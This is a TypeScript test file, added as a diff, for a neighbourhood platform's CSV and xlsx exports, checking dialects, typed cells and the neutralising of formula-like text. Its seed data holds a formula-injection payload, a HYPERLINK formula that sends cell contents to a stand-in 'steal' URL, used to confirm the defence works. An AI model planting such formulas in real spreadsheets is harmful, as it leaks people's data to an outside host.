@@ -1,0 +1,229 @@
+import ExcelJS from 'exceljs';
+import { startPlatform, type RunningPlatform } from '../../../test/platform';
+import { SPIJKERKWARTIER, tokenOf } from '../../../test/people';
+import { EXPORT_TABLES } from './tables';
+
+/*
+ * The exports as a spreadsheet user gets them: the RFC 4180 CSV byte for byte as it always was; the excel
+ * dialect (`;`, BOM, decimal comma, text quoted); every table as an xlsx with typed cells and a sheet of its
+ * fields; and a resident's wish titled like a formula written as text everywhere, while negative amounts
+ * stay numbers.
+ */
+
+/** The CSV the exports wrote by hand before csv-stringify: the default dialect must not change under clients. */
+function handWrittenCsv(header: string[], objects: Record<string, unknown>[]): string {
+  const cell = (value: unknown) => {
+    if (value === null || value === undefined) return '';
+    const text = typeof value === 'object' ? JSON.stringify(value) : String(value);
+    return /[",\r\n]/.test(text) ? `"${text.replace(/"/g, '""')}"` : text;
+  };
+  return [header, ...objects.map((o) => header.map((h) => o[h]))].map((row) => row.map(cell).join(',') + '\r\n').join('');
+}
+
+/** Splits one CSV record of the excel dialect, keeping whether each cell was quoted. */
+function excelRecord(line: string): { text: string; quoted: boolean }[] {
+  const cells: { text: string; quoted: boolean }[] = [];
+  let i = 0;
+  while (i <= line.length) {
+    if (line[i] === '"') {
+      let text = '';
+      i++;
+      for (; i < line.length; i++) {
+        if (line[i] === '"' && line[i + 1] === '"') {
+          text += '"';
+          i++;
+        } else if (line[i] === '"') break;
+        else text += line[i];
+      }
+      cells.push({ text, quoted: true });
+      i += 2;
+    } else {
+      const end = line.indexOf(';', i);
+      cells.push({ text: line.slice(i, end < 0 ? line.length : end), quoted: false });
+      i = end < 0 ? line.length + 1 : end + 1;
+    }
+  }
+  return cells;
+}
+
+const FORMULA_TITLES = ['=1+1', '=HYPERLINK("https://example.org/steal?d="&A1,"klik")', '+31 6 1234', '-Nee-', '@SUM(A1)', "'t Spijker", '＝1+1'];
+
+describe('exports for spreadsheets', () => {
+  let platform: RunningPlatform;
+  const get = (path: string, headers: Record<string, string> = {}) => fetch(new URL(`/export/v1/neighbourhoods/spijkerkwartier/${path}`, platform.gatewayUrl), { headers });
+  beforeAll(async () => {
+    platform = await startPlatform();
+    const token = await tokenOf(platform, 'Penningmeester Pieter', ['resident'], SPIJKERKWARTIER);
+    for (const title of FORMULA_TITLES) {
+      const posted = await platform.query<any>(
+        `mutation ($input: PostWishInput!) { postWish(input: $input) { __typename } }`,
+        { input: { neighbourhoodId: SPIJKERKWARTIER, title, description: `=A1*2 ${title}`, themeIds: [] } },
+        { token },
+      );
+      expect(posted.body.data?.postWish.__typename).toBe('PostWishSuccess');
+    }
+  });
+  afterAll(() => platform.stop());
+
+  it('writes the default CSV exactly as before for every table, but for text that would run as a formula', async () => {
+    for (const table of EXPORT_TABLES) {
+      const csv = await (await get(`${table.name}.csv`)).text();
+      const objects = (await (await get(`${table.name}.jsonl`)).text()).split('\n').filter(Boolean).map((l) => JSON.parse(l));
+      const header = csv.slice(0, csv.indexOf('\r\n')).split(',');
+      expect(csv.charCodeAt(0)).not.toBe(0xfeff);
+      if (table.name === 'wishes') {
+        // The only difference: the leading ' of the wishes titled like formulas.
+        const neutralised = objects.map((o) => ({ ...o, title: /^['=+\-@\uFF1D]/.test(o.title) ? `'${o.title}` : o.title, description: /^=/.test(o.description) ? `'${o.description}` : o.description }));
+        expect(csv).toBe(handWrittenCsv(header, neutralised));
+      } else {
+        expect({ table: table.name, csv }).toEqual({ table: table.name, csv: handWrittenCsv(header, objects) });
+      }
+    }
+  });
+
+  it('neutralises formulas in text cells of every format but JSON Lines, and leaves negative amounts numbers', async () => {
+    const jsonl = (await (await get('wishes.jsonl')).text()).split('\n').filter(Boolean).map((l) => JSON.parse(l));
+    for (const title of FORMULA_TITLES) expect(jsonl.map((w) => w.title)).toContain(title);
+
+    const csv = await (await get('wishes.csv')).text();
+    expect(csv).toContain(`,'=1+1,`);
+    expect(csv).toContain(`,"'=HYPERLINK(""https://example.org/steal?d=""&A1,""klik"")",`);
+    expect(csv).toContain(`,'+31 6 1234,`);
+    expect(csv).toContain(`,'-Nee-,`);
+    expect(csv).toContain(`,'@SUM(A1),`);
+    expect(csv).toContain(`,''t Spijker,`);
+    expect(csv).toContain(`,'＝1+1,`);
+    expect(csv).not.toMatch(/[,\n]=/);
+
+    const excel = await (await get('wishes.csv?dialect=excel')).text();
+    expect(excel).toContain(`;"'=1+1";"'=A1*2 =1+1";`);
+
+    const workbook = new ExcelJS.Workbook();
+    await workbook.xlsx.load(Buffer.from(await (await get('wishes.xlsx')).arrayBuffer()) as unknown as ArrayBuffer);
+    const sheet = workbook.getWorksheet('wishes')!;
+    const titleColumn = (sheet.getRow(1).values as unknown[]).indexOf('title');
+    const titles: unknown[] = [];
+    sheet.eachRow((row, n) => n > 1 && titles.push(row.getCell(titleColumn).value));
+    expect(titles).toEqual(expect.arrayContaining(["'=1+1", "'@SUM(A1)", "''t Spijker"]));
+    sheet.eachRow((row) => row.eachCell((cell) => expect(cell.type).not.toBe(ExcelJS.ValueType.Formula)));
+
+    // Credit lines are negative amounts: numbers, in both dialects, without a prefix.
+    const lines = await (await get('ledger_lines.csv')).text();
+    expect(lines).toMatch(/,-\d+\.\d{2},/);
+    expect(lines).not.toMatch(/,'-\d/);
+    const excelLines = await (await get('ledger_lines.csv?dialect=excel')).text();
+    expect(excelLines).toMatch(/;-\d+,\d{2};/);
+  });
+
+  it('writes the excel dialect with a BOM, semicolons, decimal commas and every text cell quoted', async () => {
+    const response = await get('sroi_analyses.csv?dialect=excel');
+    expect(response.status).toBe(200);
+    expect(response.headers.get('content-type')).toBe('text/csv; charset=utf-8; header=present');
+    expect(response.headers.get('content-disposition')).toBe('attachment; filename="spijkerkwartier-sroi_analyses-excel.csv"');
+    const bytes = Buffer.from(await response.arrayBuffer());
+    expect([...bytes.subarray(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
+    const [headerLine, ...rows] = bytes.subarray(3).toString('utf8').split('\r\n').filter(Boolean);
+    const header = headerLine.split(';');
+    const pkg = (await (await get('datapackage.json')).json()) as any;
+    const fields = pkg.resources.find((r: any) => r.name === 'sroi_analyses').schema.fields;
+    expect(header).toEqual(fields.map((f: any) => f.name));
+    expect(rows.length).toBeGreaterThan(0);
+    for (const row of rows) {
+      const cells = excelRecord(row);
+      expect(cells).toHaveLength(header.length);
+      cells.forEach((cell, i) => {
+        const type = fields[i].type;
+        if (cell.text === '') return;
+        if (type === 'number' || type === 'integer') expect({ field: header[i], cell }).toEqual({ field: header[i], cell: { text: expect.stringMatching(/^-?\d+(,\d+)?$/), quoted: false } });
+        if (type === 'string') expect({ field: header[i], quoted: cell.quoted }).toEqual({ field: header[i], quoted: true });
+      });
+      expect(cells[header.indexOf('discountRate')].text).toMatch(/^0,\d+$/);
+    }
+    // A taakveld is text: quoted, so an import that takes quoted fields as text keeps 5.7 (or 0500) as it is.
+    const bids = await (await get('bids.csv?dialect=excel')).text();
+    const bidHeader = excelRecord(bids.slice(1, bids.indexOf('\r\n')));
+    const taakveld = bidHeader.findIndex((c) => c.text === 'taakveld');
+    const values = bids.slice(bids.indexOf('\r\n') + 2).split('\r\n').filter(Boolean).map((l) => excelRecord(l)[taakveld]);
+    expect(values.filter((v) => v.text !== '').every((v) => v.quoted)).toBe(true);
+    expect(values.some((v) => v.text !== '')).toBe(true);
+  });
+
+  it('serves every table as an xlsx with typed cells and a sheet describing the fields', async () => {
+    const pkg = (await (await get('datapackage.json')).json()) as any;
+    for (const resource of pkg.resources) {
+      const response = await get(`${resource.name}.xlsx`);
+      expect({ table: resource.name, status: response.status }).toEqual({ table: resource.name, status: 200 });
+      expect(response.headers.get('content-type')).toBe('application/vnd.openxmlformats-officedocument.spreadsheetml.sheet');
+      const etag = response.headers.get('etag')!;
+      expect(etag).toMatch(/^W\/"/);
+      const workbook = new ExcelJS.Workbook();
+      await workbook.xlsx.load(Buffer.from(await response.arrayBuffer()) as unknown as ArrayBuffer);
+      expect(workbook.worksheets.map((w) => w.name)).toEqual([resource.name, 'fields']);
+      const sheet = workbook.getWorksheet(resource.name)!;
+      const names = resource.schema.fields.map((f: any) => f.name);
+      expect((sheet.getRow(1).values as unknown[]).slice(1)).toEqual(names);
+      const jsonl = (await (await get(`${resource.name}.jsonl`)).text()).split('\n').filter(Boolean).map((l) => JSON.parse(l));
+      expect(sheet.actualRowCount - 1).toBe(jsonl.length);
+      jsonl.forEach((object, r) => {
+        const row = sheet.getRow(r + 2);
+        resource.schema.fields.forEach((field: any, i: number) => {
+          const value = row.getCell(i + 1).value;
+          const given = object[field.name];
+          const where = { table: resource.name, field: field.name, given };
+          if (given === null || given === '') return expect({ ...where, value }).toEqual({ ...where, value: null });
+          switch (field.type) {
+            case 'number':
+            case 'integer':
+              return expect({ ...where, value }).toEqual({ ...where, value: Number(given) });
+            case 'boolean':
+              return expect({ ...where, value }).toEqual({ ...where, value: given });
+            case 'date':
+            case 'datetime':
+              expect(value).toBeInstanceOf(Date);
+              return expect({ ...where, value: (value as Date).toISOString() }).toEqual({ ...where, value: field.type === 'date' ? `${given}T00:00:00.000Z` : given });
+            default:
+              expect(typeof value).toBe('string');
+          }
+        });
+      });
+      const fieldsSheet = workbook.getWorksheet('fields')!;
+      expect((fieldsSheet.getRow(1).values as unknown[]).slice(1)).toEqual(['name', 'type', 'unit', 'description']);
+      const described: unknown[][] = [];
+      fieldsSheet.eachRow((row, n) => n > 1 && described.push((row.values as unknown[]).slice(1, 3)));
+      expect(described).toEqual(resource.schema.fields.map((f: any) => [f.name, f.type]));
+      expect((await get(`${resource.name}.xlsx`, { 'if-none-match': etag })).status).toBe(304);
+    }
+    const fields = new ExcelJS.Workbook();
+    await fields.xlsx.load(Buffer.from(await (await get('ledger_lines.xlsx')).arrayBuffer()) as unknown as ArrayBuffer);
+    const units = new Map<string, unknown>();
+    fields.getWorksheet('fields')!.eachRow((row) => units.set(String(row.getCell(1).value), row.getCell(3).value));
+    expect(units.get('amount_amount')).toBe("the row's amount_unit (EUR, or HOUR for volunteer hours)");
+    expect(units.get('amount_minorUnits')).toBe("hundredths of the row's amount_unit (cents, or hundredths of an hour)");
+  });
+
+  it('streams a ledger table as xlsx cut at the checkpoint it names, like the CSV', async () => {
+    const csv = await get('ledger_entries.csv');
+    const size = csv.headers.get('ledger-checkpoint-size')!;
+    const rows = (await csv.text()).split('\r\n').filter(Boolean).length - 1;
+    const xlsx = await get(`ledger_entries.xlsx?size=${size}`);
+    expect(xlsx.headers.get('ledger-checkpoint-size')).toBe(size);
+    const workbook = new ExcelJS.Workbook();
+    await workbook.xlsx.load(Buffer.from(await xlsx.arrayBuffer()) as unknown as ArrayBuffer);
+    expect(workbook.getWorksheet('ledger_entries')!.actualRowCount - 1).toBe(rows);
+    expect((await get(`ledger_entries.xlsx?size=${size}`, { 'if-none-match': xlsx.headers.get('etag')! })).status).toBe(304);
+  });
+
+  it('refuses a dialect it does not know, or one given for another format', async () => {
+    for (const [path, detail] of [
+      ['wishes.csv?dialect=semicolon', /dialect must be rfc4180 or excel/],
+      ['wishes.csv?dialect=excel&dialect=rfc4180', /Give dialect once/],
+      ['wishes.jsonl?dialect=excel', /dialect applies to csv downloads only/],
+      ['wishes.xlsx?dialect=excel', /dialect applies to csv downloads only/],
+    ] as const) {
+      const response = await get(path);
+      expect({ path, status: response.status }).toEqual({ path, status: 400 });
+      expect(response.headers.get('content-type')).toBe('application/problem+json; charset=utf-8');
+      expect(((await response.json()) as any).detail).toMatch(detail);
+    }
+  });
+});
